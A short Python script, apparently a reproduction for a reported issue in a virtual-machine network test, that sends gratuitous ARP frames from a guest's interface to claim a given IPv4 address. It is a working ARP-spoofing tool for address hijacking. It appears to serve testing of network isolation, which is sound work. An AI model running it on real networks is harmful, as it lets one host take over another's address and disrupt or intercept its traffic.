#!/usr/bin/env python3
"""Announce that this guest has IPv4 address IP (the attack of issue 39): COUNT gratuitous
ARPs (request and reply form, RFC 5227) from IFACE's own MAC, sender IP = IP.

    claim_ip.py IFACE IP COUNT

Prints "sent N" (the frames the socket took)."""

import socket
import sys
import time


def main():
    iface, ip, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    with open("/sys/class/net/%s/address" % iface) as f:
        mac = bytes.fromhex(f.read().strip().replace(":", ""))
    addr = socket.inet_aton(ip)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    sent = 0
    for i in range(count):
        op = 1 if i % 2 == 0 else 2  # request, then reply form
        arp = (b"\x00\x01\x08\x00\x06\x04" + op.to_bytes(2, "big") + mac + addr +
               (b"\x00" * 6 if op == 1 else b"\xff" * 6) + addr)
        frame = b"\xff" * 6 + mac + b"\x08\x06" + arp
        s.send(frame)
        sent += 1
        time.sleep(0.05)
    print("sent %d" % sent, flush=True)


if __name__ == "__main__":
    main()
